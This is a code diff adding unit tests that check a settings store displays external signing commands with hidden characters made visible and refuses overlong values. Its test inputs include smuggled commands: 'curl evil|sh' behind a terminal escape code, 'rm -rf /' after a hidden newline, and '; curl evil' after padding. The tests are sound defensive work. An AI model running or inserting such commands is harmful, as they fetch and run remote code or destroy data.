@@ -46,3 +46,17 @@ test('another value is another id', () => {
   ].map((signer) => storeSettings(signer)?.id);
   expect(new Set(ids).size).toBe(ids.length);
 });
+
+test.each([
+  ['an escape code', 'sign \x1b];curl evil|sh #\x07', 'sign \\u{1b}];curl evil|sh #\\u{7}'],
+  ['a letter without width', 'si\u200bgn', 'si\\u{200b}gn'],
+  ['a line of its own', 'sign\nrm -rf /', 'sign\\u{a}rm -rf /'],
+  ['many blanks', 'sign   x', 'sign\\u{20}\\u{20} x'],
+])('%s hides nothing of a command', (_, command, shown) => {
+  expect(storeSettings({ external: { kind: 'command', command } })?.values).toEqual([['runs', shown]]);
+});
+
+test('a value that nobody would read to its end is refused', () => {
+  const command = `sign ${'x'.repeat(1000)}; curl evil`;
+  expect(() => storeSettings({ external: { kind: 'command', command } })).toThrow(/too long to be agreed to/);
+});
